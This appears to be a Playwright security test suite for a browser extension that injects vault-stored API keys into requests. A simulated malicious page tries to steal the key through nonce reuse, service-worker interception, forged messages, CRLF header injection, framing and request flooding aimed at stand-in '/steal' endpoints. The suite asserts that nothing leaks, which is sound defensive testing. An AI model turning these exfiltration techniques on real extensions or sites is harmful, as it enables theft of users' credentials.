/**
 * A site that the user has enabled and that means harm, over an API that is allowed to it. It may ask, as any page
 * may; no value reaches it, nor an address that was not allowed.
 */
import { expect, test } from '@playwright/test';
import type { Page } from '@playwright/test';
import { wireMessage } from '@/lib/core/copy/wire';
import { isRuleId } from '@/lib/injection/rule';
import { startRecorder } from '../world/recorder';
import type { Recorded, Recorder } from '../world/recorder';
import { sendFrom } from './support/page-requests';
import { holds, startScene, textOf } from './support/scene';
import type { Scene } from './support/scene';
import { answerApproval } from './support/tester';
import { HOSTILE_SCRIPT, HOSTILE_WORKER } from './support/hostile-page';
import type { Heist } from './support/hostile-page';

const KEY = { 'X-Api-Key': '{{vault:API_KEY}}' };

let scene: Scene;
let evil: Recorder;
let page: Page;
let api: string;

test.beforeAll(async () => {
  scene = await startScene();
  api = scene.world.api.url;
  evil = await startRecorder(({ path, headers }, response) => {
    response.setHeader('Access-Control-Allow-Origin', headers.origin ?? '*');
    response.setHeader('Access-Control-Allow-Headers', headers['access-control-request-headers'] ?? '*');
    const script = path === '/worker.js';
    response.writeHead(200, { 'Content-Type': script ? 'text/javascript' : 'text/html' });
    response.end(script ? HOSTILE_WORKER : `<!doctype html><title>Nice tester</title>`);
  });
  page = await scene.open(`${evil.url}/page`);
  await scene.allow(page, api);
});
test.afterAll(async () => {
  await scene?.stop();
  await evil?.stop();
});
test.beforeEach(async () => {
  await page.goto(`${evil.url}/page`);
  await page.evaluate(HOSTILE_SCRIPT);
  scene.clear();
  evil.clear();
});
// After each attack, whatever it was.
test.afterEach(async () => {
  for (const request of [...scene.everything(), ...evil.requests()]) {
    if (isAllowed(request)) continue;
    const found = Object.values(scene.values).filter((value) => holds(textOf(request), value));
    expect(found.length, `values at ${request.method} ${request.headers.host}${request.target}`).toBe(0);
  }
  const loot = await page.evaluate(() => JSON.stringify(Reflect.get(window, 'loot') ?? []));
  expect(Object.values(scene.values).filter((value) => holds(loot, value)).length, 'values as loot').toBe(0);
  await scene.expectUnseen(page);
});

/** Only there a value may be: at the API, on the path that was armed, and never in a preflight. */
const isAllowed = ({ headers, path, method }: Recorded) =>
  headers.host === new URL(api).host && path === '/target' && method !== 'OPTIONS';

const atTarget = () => scene.world.api.requests('/target').filter(({ method }) => method !== 'OPTIONS');
const rules = async () =>
  (await scene.keyferry.worker()).evaluate(async () => {
    const { declarativeNetRequest } = Reflect.get(globalThis, 'chrome') as {
      declarativeNetRequest: { getSessionRules(): Promise<{ id: number }[]> };
    };
    return (await declarativeNetRequest.getSessionRules()).map(({ id }) => id);
  });
const waiting = async () => (await scene.keyferry.send('status/view', {})).waiting;

test('a nonce that the page got hold of is good for its own request only', async () => {
  const { hostile } = scene.world.testers;
  const elsewhere = [
    `${api}/other`,
    `${api}/echo`,
    `${hostile.url}/`,
    `${hostile.url}/${api}/target`,
    `${evil.url}/steal`,
    `${evil.url}/steal?${api}/target`,
    `${scene.world.api.elsewhere.url}/target`,
  ];
  for (const url of elsewhere) {
    const [armed, answer] = await page.evaluate(
      async ([to, target]) => {
        const { ask, grab } = Reflect.get(window, 'heist') as Heist;
        const reply = await ask({ url: target });
        return [reply.kind, await grab(`${to}#kf-${reply.nonce}`)] as const;
      },
      [url, `${api}/target`] as const,
    );
    expect(armed).toBe('armed');
    expect(answer).not.toBeNull();
  }
  expect(atTarget()).toEqual([]);

  // On its own path it is good once.
  const first = await page.evaluate(async (target) => {
    const { ask, grab } = Reflect.get(window, 'heist') as Heist;
    const reply = await ask({ url: target });
    const address = `${target}#kf-${reply.nonce}`;
    Reflect.set(window, 'used', address);
    return grab(address);
  }, `${api}/target`);
  expect(first).toBe('{"ok":true}');
  await expect.poll(async () => (await rules()).filter(isRuleId)).toEqual([]);
  await page.evaluate(() =>
    (Reflect.get(window, 'heist') as Heist).grab(String(Reflect.get(window, 'used'))),
  );
  expect(atTarget().map(({ headers }) => headers['x-api-key'])).toEqual([
    scene.values.API_KEY,
    '{{vault:API_KEY}}',
  ]);
});

test('a nonce is of no use to any other kind of request', async () => {
  const nonce = await page.evaluate(
    async (target) => (await (Reflect.get(window, 'heist') as Heist).ask({ url: target })).nonce,
    `${api}/target`,
  );
  const address = `${api}/target#kf-${nonce}`;
  await page.evaluate(async (to) => {
    const loaded = (element: HTMLElement) =>
      new Promise((resolve) => {
        element.onload = element.onerror = resolve;
        document.body.append(element);
      });
    await loaded(Object.assign(new Image(), { src: to }));
    await loaded(Object.assign(document.createElement('script'), { src: to }));
    await loaded(Object.assign(document.createElement('iframe'), { src: to }));
    navigator.sendBeacon(to, 'beacon');
    await fetch(to, { method: 'POST', headers: { 'X-Api-Key': '{{vault:API_KEY}}' } });
    await fetch(to, { method: 'POST', mode: 'no-cors', body: 'text' });
    const source = new EventSource(to);
    await new Promise((resolve) => (source.onerror = resolve));
    source.close();
  }, address);
  const values = atTarget().map(({ headers }) => headers['x-api-key'] ?? null);
  expect(values).not.toContain(scene.values.API_KEY);
  expect(values.length).toBeGreaterThanOrEqual(6);
});

test('another origin of the same host gets nothing with the nonce', async () => {
  const { hostile } = scene.world.testers;
  const nonce = await page.evaluate(
    async (target) => (await (Reflect.get(window, 'heist') as Heist).ask({ url: target })).nonce,
    `${api}/target`,
  );
  const other = await scene.keyferry.context.newPage();
  await other.goto(hostile.url);
  for (const to of [`${hostile.url}/steal`, `${api}/other`, `${evil.url}/steal`, `${api}/target`]) {
    const { text } = await sendFrom(other, 'fetch', `${to}#kf-${nonce}`, { headers: KEY });
    expect(Object.values(scene.values).some((value) => holds(text, value))).toBe(false);
  }
  await scene.expectUnseen(other);
  await other.close();
});

test('a page’s service worker sees the nonce first, and gains nothing', async () => {
  const { hostile } = scene.world.testers;
  const targets = [`${api}/other`, `${api}/echo`, `${hostile.url}/steal`, `${evil.url}/steal`];
  await page.evaluate(async (to) => {
    await navigator.serviceWorker.register(`/worker.js?${new URLSearchParams({ to: JSON.stringify(to) })}`);
    await navigator.serviceWorker.ready;
    if (!navigator.serviceWorker.controller) {
      await new Promise((resolve) => (navigator.serviceWorker.oncontrollerchange = resolve));
    }
  }, targets);
  const first = await sendFrom(page, 'fetch', `${api}/target`, { headers: KEY });
  expect(first.status).toBe(200);
  const tried = JSON.parse(first.text) as string[];
  expect(tried).toHaveLength(targets.length + 3);
  expect(evil.requests('/steal').length).toBeGreaterThan(0);
  expect(Object.values(scene.values).some((value) => holds(first.text, value))).toBe(false);
  for (const { headers } of atTarget()) {
    expect([scene.values.API_KEY, '{{vault:API_KEY}}']).toContain(headers['x-api-key']);
  }
  await page.evaluate(async () => {
    for (const one of await navigator.serviceWorker.getRegistrations()) await one.unregister();
  });
});

test('what it asks over the bridge’s own port is decided as for any request', async () => {
  const forbidden = ['Host', 'Cookie', 'Origin', 'Referer', 'Sec-Fetch-Site', 'Proxy-Authorization', 'Via'];
  const answers = await page.evaluate(
    async ([target, names]) => {
      const { ask } = Reflect.get(window, 'heist') as Heist;
      const value = '{{vault:API_KEY}}';
      return {
        forbidden: await Promise.all(names.map((name) => ask({ url: target, headers: [[name, value]] }))),
        twice: await ask({
          url: target,
          headers: [
            ['X-A', value],
            ['x-a', value],
          ],
        }),
        noName: await ask({ url: target, headers: [['X-A: b\r\nX-B', value]] }),
        noHttp: await ask({ url: 'chrome-extension://x/y' }),
        options: await ask({ url: target, method: 'OPTIONS' }),
        elsewhere: await ask({ url: target, elsewhere: ['body'] }),
      };
    },
    [`${api}/target`, forbidden] as const,
  );
  expect(answers.forbidden.map(({ kind, message }) => [kind, message])).toEqual(
    forbidden.map((header) => ['failed', wireMessage('header-forbidden', { header })]),
  );
  const { twice, noName, noHttp, options, elsewhere } = answers;
  expect([twice, noName, noHttp, options, elsewhere].map(({ kind }) => kind)).toEqual(
    Array(5).fill('failed'),
  );
  expect(atTarget()).toEqual([]);
  expect(await waiting()).toBe(0);
});

test('its own server is a destination like any other: held, not sent', async () => {
  const own = [`${evil.url}/steal`, `${scene.world.testers.hostile.url}/steal`];
  const sent = own.map((to) => sendFrom(page, 'fetch', to, { headers: KEY }));
  await expect.poll(waiting).toBe(2);
  expect(evil.requests('/steal')).toEqual([]);
  const { approvals } = await scene.keyferry.send('popup/view', {});
  expect(approvals.map(({ destination }) => destination).sort()).toEqual(
    own.map((to) => new URL(to).origin).sort(),
  );
  expect(approvals.map(({ tester }) => tester)).toEqual([evil.url, evil.url]);
  await answerApproval(scene.keyferry.send, 'refuse');
  await answerApproval(scene.keyferry.send, 'refuse');
  for (const { error } of await Promise.all(sent)) expect(error).toContain(wireMessage('request-refused'));
  expect([...evil.requests('/steal'), ...scene.world.testers.hostile.requests()]).toEqual([]);
});

test('forged events and messages move nothing', async () => {
  const ids = scene.keyferry.extensionId;
  const outcome = await page.evaluate(
    async ([target, id]) => {
      const { port } = Reflect.get(window, 'heist') as Heist;
      const loot = Reflect.get(window, 'loot') as unknown[];
      const { port1, port2 } = new MessageChannel();
      port1.onmessage = ({ data }) => loot.push(data);
      const hold = {
        kind: 'hold',
        id: 1,
        url: target,
        method: 'GET',
        headers: [['X-Api-Key', '{{vault:API_KEY}}']],
        elsewhere: [],
        silent: false,
      };
      for (const type of ['keyferry-offer', 'keyferry-ask', 'message', 'hold', 'armed']) {
        const event = new MessageEvent(type, { data: hold, ports: [port2], cancelable: true });
        document.dispatchEvent(event);
        window.dispatchEvent(new MessageEvent(type, { data: hold, ports: [port2] }));
      }
      window.postMessage(hold, '*');
      window.postMessage({ kind: 'inject/request', request: hold }, '*');
      port.dispatchEvent(new MessageEvent('message', { data: { kind: 'armed', id: 1, nonce: 'forged' } }));
      for (const junk of [
        null,
        1,
        'hold',
        [],
        {},
        { kind: 'hold' },
        { kind: 'drop', id: 'x' },
        { ...hold, headers: 1 },
      ]) {
        port.postMessage(junk);
      }
      const chrome = Reflect.get(window, 'chrome') as
        { runtime?: { sendMessage?: (id: string, message: unknown) => Promise<unknown> } } | undefined;
      const external = await Promise.resolve()
        .then(() => chrome?.runtime?.sendMessage?.(id, { kind: 'status/view', request: {} }) ?? 'no way in')
        .catch(() => 'refused');
      const resource = await fetch(`chrome-extension://${id}/popup.html`).then(
        ({ status }) => String(status),
        () => 'refused',
      );
      return [external, resource];
    },
    [`${api}/target`, ids] as const,
  );
  expect(outcome).toEqual(['no way in', 'refused']);
  // The bridge is alive after all of it.
  expect((await sendFrom(page, 'fetch', `${api}/target`, { headers: KEY })).status).toBe(200);
  expect(atTarget().map(({ headers }) => headers['x-api-key'])).toEqual([scene.values.API_KEY]);
  expect(await page.evaluate(() => Reflect.get(window, 'loot') as unknown[])).toEqual([]);
});

test('framed by another origin, or with an origin that is none, it sends nothing', async () => {
  const { hostile } = scene.world.testers;
  const outer = await scene.keyferry.context.newPage();
  await outer.goto(hostile.framing(`${evil.url}/page`));
  const framed = outer.frames().find((frame) => frame.url() === `${evil.url}/page`);
  const sendIn = (to: string) =>
    fetch(to, { headers: { 'X-Api-Key': '{{vault:API_KEY}}' } }).then(
      ({ status }) => String(status),
      (error: Error) => error.message,
    );
  expect(await framed?.evaluate(sendIn, `${api}/target`)).toBe(wireMessage('embedded'));
  await outer.close();

  const inFrame = async (src: string, sandboxed: boolean) => {
    await page.evaluate(
      async ([address, sandbox]) => {
        const frame = document.createElement('iframe');
        if (sandbox) frame.setAttribute('sandbox', 'allow-scripts');
        frame.src = address;
        const loaded = new Promise((resolve) => (frame.onload = resolve));
        document.body.append(frame);
        await loaded;
      },
      [src, sandboxed] as const,
    );
    scene.clear();
    await page.frames().at(-1)?.evaluate(sendIn, `${api}/target`);
    return atTarget().map(({ headers }) => headers['x-api-key']);
  };
  expect(await inFrame(`${evil.url}/page`, true)).not.toContain(scene.values.API_KEY);
  expect(await inFrame('data:text/html,x', false)).not.toContain(scene.values.API_KEY);
  // A frame of its own origin is the tester itself.
  expect(await inFrame(`${evil.url}/page`, false)).toEqual([scene.values.API_KEY]);
});

test('asking in masses: a room with a limit, and nothing left when the page goes', async () => {
  await page.evaluate((to) => {
    for (let at = 0; at < 600; at++) {
      fetch(to, { headers: { 'X-At': `${at}`, 'X-Api-Key': '{{vault:API_KEY}}' } }).catch(() => undefined);
    }
  }, `${evil.url}/steal`);
  await expect.poll(waiting).toBe(500);
  const { approvals } = await scene.keyferry.send('popup/view', {});
  expect(approvals.flatMap(({ requestIds }) => requestIds)).toHaveLength(500);
  await page.reload();
  await expect.poll(waiting).toBe(0);
  expect(evil.requests('/steal')).toEqual([]);
});
